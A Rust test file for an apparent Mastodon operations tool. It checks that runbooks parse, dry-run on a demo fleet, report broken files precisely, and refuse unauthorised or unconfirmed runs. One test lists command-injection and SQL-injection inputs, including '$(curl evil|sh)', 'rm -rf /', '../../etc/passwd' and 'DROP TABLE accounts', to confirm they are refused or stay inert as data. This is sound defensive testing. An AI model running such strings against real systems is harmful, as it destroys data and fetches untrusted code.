//! Runbooks without servers: every shipped runbook parses, expands and dry-runs (against the
//! demo fleet, through the pipeline and the demo executor); broken files are located;
//! hostile parameter values stay data.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use mastop::actions::audit::{AuditLog, Outcome, Phase};
use mastop::actions::executor::DemoLedger;
use mastop::actions::runtime::Runtime;
use mastop::actions::store::local::LocalStore;
use mastop::actions::{Operation, Pipeline, Role, Session};
use mastop::config::Config;
use mastop::runbooks::engine::execute_collecting;
use mastop::runbooks::library::{SHIPPED, shipped};
use mastop::runbooks::{Control, Event, Inventory, InventoryHost, Mode, RunEnd, Work, expand};

/// The parameters each shipped runbook needs on the demo fleet (the rest have defaults).
fn demo_values(name: &str) -> BTreeMap<String, String> {
    let pairs: &[(&str, &str)] = match name {
        "restart-sidekiq-unit" => &[("host", "sidekiq-1")],
        "reload-edge-nginx" => &[("edge", "fremont-1")],
        "retry-job-class" => &[("class", "ActivityPub::DeliveryWorker")],
        "purge-domain" => &[("domain", "spam.example")],
        _ => &[],
    };
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

struct DemoConsole {
    runtime: Runtime,
    audit: AuditLog,
    ledger: Arc<Mutex<DemoLedger>>,
    _dir: tempfile::TempDir,
}

fn demo_console(role: Role) -> DemoConsole {
    let dir = tempfile::tempdir().expect("tempdir");
    let audit = AuditLog::new(dir.path().join("audit.jsonl"));
    let store = Arc::new(LocalStore::new(dir.path().join("state"), audit.clone()));
    let pipeline = Pipeline::new(
        Session::current(Some(role), false),
        store,
        audit.clone(),
        Duration::from_secs(60),
        Duration::from_secs(60),
    );
    let ledger = Arc::new(Mutex::new(DemoLedger::default()));
    DemoConsole {
        runtime: Runtime::new(pipeline, &Config::default(), Some(ledger.clone())),
        audit,
        ledger,
        _dir: dir,
    }
}

#[test]
fn every_shipped_runbook_parses_and_the_issue_list_is_covered() {
    let library = shipped();
    assert!(library.errors.is_empty(), "{:?}", library.errors);
    assert_eq!(library.runbooks.len(), SHIPPED.len());
    for name in [
        "rolling-reload-web",
        "restart-sidekiq-unit",
        "reload-edge-nginx",
        "cancel-long-queries",
        "retry-job-class",
        "clear-dead-set",
        "media-remove",
        "close-registrations",
        "reopen-registrations",
        "purge-domain",
    ] {
        let r = library
            .get(name)
            .unwrap_or_else(|| panic!("{name} shipped"));
        assert!(
            !r.description.trim().is_empty(),
            "{name} says what it is for"
        );
        assert!(!r.rollback.trim().is_empty(), "{name} has rollback notes");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_shipped_runbook_expands_and_dry_runs_on_the_demo_fleet() {
    let library = shipped();
    let inventory = Inventory::demo();
    for runbook in &library.runbooks {
        let values = demo_values(&runbook.name);
        let real = expand(runbook, &values, &inventory, Mode::Run, true)
            .unwrap_or_else(|e| panic!("{}: {e}", runbook.name));
        assert!(
            real.actions().count() > 0,
            "{} does something",
            runbook.name
        );
        let plan = expand(runbook, &values, &inventory, Mode::DryRun, true)
            .unwrap_or_else(|e| panic!("{}: {e}", runbook.name));
        assert!(
            plan.actions().all(|a| a.risk == mastop::actions::Risk::Low),
            "{}: a dry run only runs low-risk, read-only forms",
            runbook.name
        );
        let console = demo_console(Role::Oncall);
        let (summary, events) =
            execute_collecting(&plan, &console.runtime, None, &Control::new()).await;
        assert_eq!(
            summary.end,
            RunEnd::Completed,
            "{}: {events:?}",
            runbook.name
        );
        let done = console.ledger.lock().expect("ledger").done.len();
        assert_eq!(
            done,
            plan.actions().count(),
            "{}: every dry-run action reached the demo executor",
            runbook.name
        );
        let (records, _) = console.audit.read_since(None).expect("audit");
        let outcomes: Vec<_> = records
            .iter()
            .filter(|r| r.phase == Phase::Outcome)
            .collect();
        assert_eq!(
            outcomes.len(),
            done,
            "{}: each action audited",
            runbook.name
        );
        for r in outcomes {
            let mark = r.runbook.as_ref().expect("the record names its run");
            assert_eq!(mark.name, runbook.name);
            assert_eq!(mark.run, summary.run);
            assert!(mark.dry_run);
            assert_eq!(r.outcome, Some(Outcome::Ok));
        }
    }
}

#[test]
fn the_dry_run_of_tootctl_runbooks_runs_only_the_dry_run_form() {
    let library = shipped();
    let inventory = Inventory::demo();
    let media = library.get("media-remove").expect("shipped");
    let plan = expand(
        media,
        &demo_values("media-remove"),
        &inventory,
        Mode::DryRun,
        false,
    )
    .expect("expands");
    let ops: Vec<&Operation> = plan.actions().flat_map(|a| &a.operations).collect();
    assert_eq!(ops.len(), 1, "{:?}", plan.lines());
    let Operation::Ssh { host, argv } = ops[0] else {
        panic!("ssh: {:?}", ops[0]);
    };
    assert_eq!(host, "web-1", "one mastodon-web host");
    assert_eq!(
        argv,
        &[
            "sudo",
            "-u",
            "mastodon",
            "env",
            "RAILS_ENV=production",
            "/home/mastodon/live/bin/tootctl",
            "media",
            "remove",
            "--days",
            "7",
            "--dry-run"
        ]
    );
    let Work::Skip { would } = &plan.steps[1].work else {
        panic!("the real removal is skipped in a dry run");
    };
    assert!(would[0].contains("media remove --days 7"), "{would:?}");
    assert!(!would[0].contains("--dry-run"), "{would:?}");
}

fn library_with(text: &str) -> Result<mastop::runbooks::Runbook, Vec<mastop::config::FileError>> {
    mastop::runbooks::file::parse("test.toml", text)
}

const MINIMAL: &str = r#"
name = "t"
title = "T"
risk = "high"

[[param]]
name = "days"
type = "integer"
min = 1
max = 10
"#;

#[test]
fn broken_files_name_file_line_and_key() {
    let cases: &[(&str, usize, &str, &str)] = &[
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"high\"\n[[step]]\ntitle = \"x\"\nssh = [\"ls\"]\nhsts = { role = \"web\" }\n",
            7,
            "step[0].hsts",
            "unknown field `hsts`",
        ),
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"sometimes\"\n[[step]]\ntitle = \"x\"\nwait = { delay = \"1s\" }\n",
            3,
            "risk",
            "sometimes",
        ),
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"high\"\n[[step]]\ntitle = \"x\"\nssh = [\"rm\", \"{path}\"]\nhosts = { role = \"web\" }\n",
            6,
            "step[0].ssh[1]",
            "{path}",
        ),
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"high\"\n[[param]]\nname = \"d\"\ntype = \"string\"\npattern = \"[a-z]+\"\n[[step]]\ntitle = \"x\"\non = \"postgres/primary\"\nsql = \"SELECT '{d}'\"\n",
            11,
            "step[0].sql",
            "SQL text",
        ),
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"high\"\n[[param]]\nname = \"p\"\ntype = \"string\"\n[[step]]\ntitle = \"x\"\nwait = { delay = \"1s\" }\n",
            6,
            "param[0].type",
            "allowed",
        ),
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"high\"\n[[param]]\nname = \"p\"\ntype = \"enum\"\nvalues = [\"a\"]\n[[step]]\ntitle = \"x\"\nssh = [\"{p}\"]\nhosts = { role = \"web\" }\n",
            10,
            "step[0].ssh[0]",
            "command itself",
        ),
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"high\"\n[[step]]\ntitle = \"x\"\nssh = [\"ls\"]\nhosts = { role = \"web\" }\n[step.gate]\nhttp = \"http://x/health\"\ntimeout = \"10s\"\n",
            8,
            "step[0].gate",
            "one_at_a_time",
        ),
        (
            "name = \"t\"\ntitle = \"T\"\nrisk = \"high\"\n[[step]]\ntitle = \"x\"\nssh = [\"ls\"]\n",
            4,
            "step[0]",
            "needs `hosts`",
        ),
        ("name = \"t\"\ntitle = [\n", 2, "", "unclosed array"),
    ];
    for (text, line, key, says) in cases {
        let errors = library_with(text).expect_err("broken");
        let e = &errors[0];
        let shown = e.to_string();
        assert!(shown.starts_with("test.toml:"), "{shown}");
        assert_eq!(e.position.map(|p| p.0), Some(*line), "{shown}");
        if !key.is_empty() {
            assert_eq!(e.key.as_deref(), Some(*key), "{shown}");
        }
        assert!(shown.contains(says), "{shown} should mention {says}");
    }
    // All problems of a file at once, not one per attempt.
    let two = format!(
        "{MINIMAL}default = 99\n[[step]]\ntitle = \"a\"\nssh = [\"ls\"]\nhosts = {{ role = \"web\" }}\nmethod = \"GET\"\n"
    );
    let errors = library_with(&two).expect_err("broken");
    assert_eq!(errors.len(), 2, "{errors:?}");
}

fn two_web_hosts() -> Inventory {
    Inventory {
        hosts: ["web-1", "web-2"]
            .iter()
            .map(|n| InventoryHost {
                name: n.to_string(),
                address: format!("{n}.tail"),
                roles: vec!["mastodon-web".into()],
                tags: vec![],
            })
            .collect(),
        components: vec!["postgres/primary".into(), "sidekiq/main".into()],
    }
}

#[test]
fn hostile_values_are_refused_or_stay_one_argument() {
    let library = shipped();
    let inventory = two_web_hosts();
    let purge = library.get("purge-domain").expect("shipped");
    for hostile in [
        "spam.example; rm -rf /",
        "$(curl evil|sh)",
        "`id`",
        "a.example' --by-uri '",
        "a.example\n--all",
        "\u{1b}[2Ja.example",
        "../../etc/passwd",
    ] {
        let values = BTreeMap::from([("domain".to_string(), hostile.to_string())]);
        let err = expand(purge, &values, &inventory, Mode::Run, false)
            .expect_err("refused")
            .to_string();
        assert!(err.contains("parameter `domain`"), "{hostile:?}: {err}");
    }
    // A free-text value that the runbook allows still lands as exactly one argv element,
    // and SQL parameters never reach the SQL text.
    let text = r#"
name = "echo"
title = "Echo"
risk = "low"
[[param]]
name = "note"
type = "string"
pattern = '[^\n]*'
[[step]]
title = "echo"
ssh = ["logger", "-t", "mastop", "--", "{note}"]
hosts = { role = "mastodon-web", limit = 1 }
[[step]]
title = "sql"
on = "postgres/primary"
sql = "SELECT $1::text"
params = ["{note}"]
[[step]]
title = "redis"
on = "sidekiq/main"
redis = ["SET", "mastop:note", "{note}"]
"#;
    let runbook = library_with(text).expect("parses");
    let hostile = "x'; DROP TABLE accounts; -- $(rm -rf /) `id` \"q\" {host.name}";
    let values = BTreeMap::from([("note".to_string(), hostile.to_string())]);
    let plan = expand(&runbook, &values, &inventory, Mode::Run, false).expect("expands");
    let ops: Vec<&Operation> = plan.actions().flat_map(|a| &a.operations).collect();
    assert_eq!(
        ops[0],
        &Operation::Ssh {
            host: "web-1".into(),
            argv: vec![
                "logger".into(),
                "-t".into(),
                "mastop".into(),
                "--".into(),
                hostile.into()
            ],
        }
    );
    assert_eq!(
        ops[1],
        &Operation::Sql {
            text: "SELECT $1::text".into(),
            params: vec![hostile.into()],
        }
    );
    assert_eq!(
        ops[2],
        &Operation::redis(vec!["SET".into(), "mastop:note".into(), hostile.into()])
    );
    // A control character is refused even where the pattern would allow it.
    let values = BTreeMap::from([("note".to_string(), "a\u{1b}]0;pwned\u{7}".to_string())]);
    assert!(expand(&runbook, &values, &inventory, Mode::Run, false).is_err());
}

#[test]
fn parameters_are_checked_all_at_once_with_precise_messages() {
    let library = shipped();
    let inventory = Inventory::demo();
    let restart = library.get("restart-sidekiq-unit").expect("shipped");
    let values = BTreeMap::from([
        ("host".to_string(), "web-1".to_string()),
        ("unit".to_string(), "nginx.service".to_string()),
        ("color".to_string(), "red".to_string()),
    ]);
    let err = expand(restart, &values, &inventory, Mode::Run, true)
        .expect_err("refused")
        .to_string();
    assert!(err.contains("parameter `color` is unknown"), "{err}");
    assert!(
        err.contains("parameter `host` must be one of sidekiq-1, sidekiq-2"),
        "{err}"
    );
    assert!(err.contains("parameter `unit` must match"), "{err}");
    let err = expand(restart, &BTreeMap::new(), &inventory, Mode::Run, true)
        .expect_err("host is required")
        .to_string();
    assert!(
        err.contains("parameter `host` is required (host with role mastodon-sidekiq)"),
        "{err}"
    );
}

#[test]
fn a_rolling_step_expands_one_action_per_host_each_with_its_own_gate() {
    let library = shipped();
    let rolling = library.get("rolling-reload-web").expect("shipped");
    let plan = expand(
        rolling,
        &BTreeMap::new(),
        &two_web_hosts(),
        Mode::Run,
        false,
    )
    .expect("expands");
    let Work::Actions {
        actions,
        gates,
        together,
    } = &plan.steps[0].work
    else {
        panic!("actions");
    };
    assert!(!together);
    assert_eq!(actions.len(), 2);
    assert_eq!(actions[0].target.component, "host/web-1");
    assert_eq!(actions[1].target.component, "host/web-2");
    assert_eq!(gates.len(), 2);
    assert_eq!(
        gates[0].shown,
        "GET http://web-1.tail:3000/health answers 200"
    );
    assert_eq!(
        gates[1].shown,
        "GET http://web-2.tail:3000/health answers 200"
    );
    assert_eq!(gates[0].timeout, Duration::from_secs(90));
    let lines = plan.lines();
    assert_eq!(
        lines,
        [
            "1. Reload mastodon-web",
            "   ssh web-1 -- sudo systemctl reload mastodon-web.service",
            "   gate before the next host: GET http://web-1.tail:3000/health answers 200 within 1m 30s",
            "   ssh web-2 -- sudo systemctl reload mastodon-web.service",
            "   gate after the last host: GET http://web-2.tail:3000/health answers 200 within 1m 30s",
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shadow_runs_nothing_and_the_refusal_is_audited() {
    let library = shipped();
    let runbook = library.get("clear-dead-set").expect("shipped");
    let plan = expand(
        runbook,
        &BTreeMap::new(),
        &Inventory::demo(),
        Mode::Run,
        true,
    )
    .expect("expands");
    let console = demo_console(Role::Shadow);
    let (summary, _) = execute_collecting(
        &plan,
        &console.runtime,
        Some("clear-dead-set"),
        &Control::new(),
    )
    .await;
    let RunEnd::Refused { reason } = &summary.end else {
        panic!("refused: {summary:?}");
    };
    assert!(reason.contains("read-only"), "{reason}");
    assert!(console.ledger.lock().expect("ledger").done.is_empty());
    let (records, _) = console.audit.read_since(None).expect("audit");
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!(records[0].outcome, Some(Outcome::Refused));
    assert_eq!(
        records[0].runbook.as_ref().map(|m| m.name.as_str()),
        Some("clear-dead-set")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wrong_confirmation_runs_nothing() {
    let library = shipped();
    let runbook = library.get("clear-dead-set").expect("shipped");
    let plan = expand(
        runbook,
        &BTreeMap::new(),
        &Inventory::demo(),
        Mode::Run,
        true,
    )
    .expect("expands");
    let console = demo_console(Role::Oncall);
    let (summary, _) =
        execute_collecting(&plan, &console.runtime, Some("clear"), &Control::new()).await;
    assert!(
        matches!(&summary.end, RunEnd::Refused { reason } if reason.contains("confirm")),
        "{summary:?}"
    );
    assert!(console.ledger.lock().expect("ledger").done.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pause_holds_before_the_next_step_and_abort_stops_there() {
    let library = shipped();
    let runbook = library.get("restart-sidekiq-unit").expect("shipped");
    let values = demo_values("restart-sidekiq-unit");
    let plan = expand(runbook, &values, &Inventory::demo(), Mode::Run, true).expect("expands");
    let console = demo_console(Role::Oncall);
    let control = Control::new();
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let run = {
        let control = control.clone();
        let plan = plan.clone();
        async move {
            mastop::runbooks::engine::execute(
                &plan,
                &console.runtime,
                Some("restart-sidekiq-unit"),
                &control,
                &tx,
            )
            .await;
            console
        }
    };
    let handle = tokio::spawn(run);
    // Pause as soon as step 1 starts: step 1 finishes, step 2 does not start.
    let mut seen = Vec::new();
    while let Some(e) = rx.recv().await {
        seen.push(e.clone());
        if matches!(e, Event::StepStarted { number: 1, .. }) {
            control.pause();
        }
        if matches!(e, Event::Paused { .. }) {
            break;
        }
    }
    assert_eq!(seen.last(), Some(&Event::Paused { before: 2 }));
    assert!(seen.iter().any(|e| matches!(
        e,
        Event::ActionFinished {
            number: 1,
            outcome: Outcome::Ok,
            ..
        }
    )));
    control.abort();
    let console = handle.await.expect("run task");
    let mut rest = Vec::new();
    while let Some(e) = rx.recv().await {
        rest.push(e);
    }
    let Some(Event::Finished(summary)) = rest.last() else {
        panic!("finished: {rest:?}");
    };
    assert_eq!(summary.end, RunEnd::Aborted { before: 2 });
    assert!(
        !rest
            .iter()
            .any(|e| matches!(e, Event::StepStarted { number: 2, .. })),
        "{rest:?}"
    );
    assert_eq!(
        console.ledger.lock().expect("ledger").done.len(),
        1,
        "only step 1 ran"
    );
}

fn mastop(home: &std::path::Path, args: &[&str], stdin: &str) -> std::process::Output {
    use std::io::Write;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_mastop"))
        .args(args)
        .env_clear()
        .env("HOME", home)
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run mastop");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(stdin.as_bytes())
        .expect("write stdin");
    child.wait_with_output().expect("mastop output")
}

fn text(out: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn cli_lists_shows_and_runs_runbooks_with_user_files_and_located_errors() {
    let home = tempfile::tempdir().expect("home");
    let dir = home.path().join(".config/mastop/runbooks");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(
        dir.join("clear-dead-set.toml"),
        "name = \"clear-dead-set\"\ntitle = \"Our own dead-set procedure\"\nrisk = \"high\"\n[[step]]\ntitle = \"count\"\non = \"sidekiq/main\"\nredis = [\"ZCARD\", \"dead\"]\nread_only = true\n",
    )
    .expect("write");
    std::fs::write(dir.join("broken.toml"), "name = \"b\"\ntitle = \"B\"\nrisk = \"high\"\n[[step]]\ntitle = \"x\"\nsql = \"SELECT 1\"\n")
        .expect("write");
    let h = home.path();

    let out = mastop(h, &["runbook", "list"], "");
    let shown = text(&out);
    assert_eq!(
        out.status.code(),
        Some(2),
        "a broken file fails the listing: {shown}"
    );
    assert!(
        shown.contains("Our own dead-set procedure"),
        "user file replaces shipped: {shown}"
    );
    assert!(shown.contains("purge-domain"), "{shown}");
    assert!(
        shown.contains("broken.toml:4:1: `step[0]`: needs `on`"),
        "located: {shown}"
    );

    let out = mastop(
        h,
        &["runbook", "show", "media-remove", "--demo", "-p", "days=30"],
        "",
    );
    let shown = text(&out);
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(shown.contains("Rollback:"), "{shown}");
    assert!(
        shown.contains("ssh web-1 -- sudo -u mastodon env RAILS_ENV=production /home/mastodon/live/bin/tootctl media remove --days 30 --dry-run"),
        "{shown}"
    );

    let out = mastop(
        h,
        &["runbook", "show", "media-remove", "-p", "days=30; reboot"],
        "",
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out).contains("parameter `days` must be a whole number"));

    // --yes is not enough for a high-risk run; the typed name is.
    let out = mastop(
        h,
        &[
            "runbook",
            "run",
            "reload-edge-nginx",
            "--demo",
            "-p",
            "edge=tokyo-1",
            "--yes",
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    let out = mastop(
        h,
        &[
            "runbook",
            "run",
            "reload-edge-nginx",
            "--demo",
            "-p",
            "edge=tokyo-1",
        ],
        "reload-edge\n",
    );
    assert_eq!(
        out.status.code(),
        Some(3),
        "wrong name refused: {}",
        text(&out)
    );
    let out = mastop(
        h,
        &[
            "runbook",
            "run",
            "reload-edge-nginx",
            "--demo",
            "-p",
            "edge=tokyo-1",
        ],
        "reload-edge-nginx\n",
    );
    let shown = text(&out);
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(
        shown.contains("reload-edge-nginx: completed (3 actions ok)"),
        "{shown}"
    );
    // A dry run only runs low-risk forms, so --yes is enough.
    let out = mastop(
        h,
        &[
            "runbook",
            "run",
            "reload-edge-nginx",
            "--demo",
            "-p",
            "edge=tokyo-1",
            "--dry-run",
            "--yes",
        ],
        "",
    );
    let shown = text(&out);
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(
        shown.contains(
            "skipped in a dry run: host/tokyo-1: ssh tokyo-1 -- sudo systemctl reload nginx.service"
        ),
        "{shown}"
    );
    // Shadow can read and preview, never run.
    let out = mastop(
        h,
        &[
            "--readonly",
            "runbook",
            "run",
            "reload-edge-nginx",
            "--demo",
            "-p",
            "edge=tokyo-1",
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(text(&out).contains("read-only"));
}

#[test]
fn the_runbooks_config_section_is_checked_and_its_dirs_are_loaded() {
    let err = mastop::config::load_str("[runbooks]\ndirs = [\"\"]\n", "cfg.toml", &[])
        .expect_err("an empty dir is refused")
        .to_string();
    assert!(err.contains("cfg.toml:2:"), "{err}");
    assert!(err.contains("runbooks.dirs[0]"), "{err}");
    let err = mastop::config::load_str("[runbooks]\nfolders = []\n", "cfg.toml", &[])
        .expect_err("unknown key")
        .to_string();
    assert!(err.contains("folders"), "{err}");

    let dir = tempfile::tempdir().expect("dir");
    std::fs::write(
        dir.path().join("mine.toml"),
        "name = \"mine\"\ntitle = \"Mine\"\nrisk = \"low\"\n[[step]]\ntitle = \"w\"\nwait = { delay = \"1s\" }\n",
    )
    .expect("write");
    let text = format!(
        "[runbooks]\nshipped = false\ndirs = [\"{}\"]\n",
        dir.path().display()
    );
    let (cfg, _) = mastop::config::load_str(&text, "cfg.toml", &[]).expect("loads");
    let library = mastop::runbooks::library::load_library_from(&cfg, None);
    let names: Vec<&str> = library.runbooks.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(names, ["mine"], "shipped ones off, the directory's on");
}
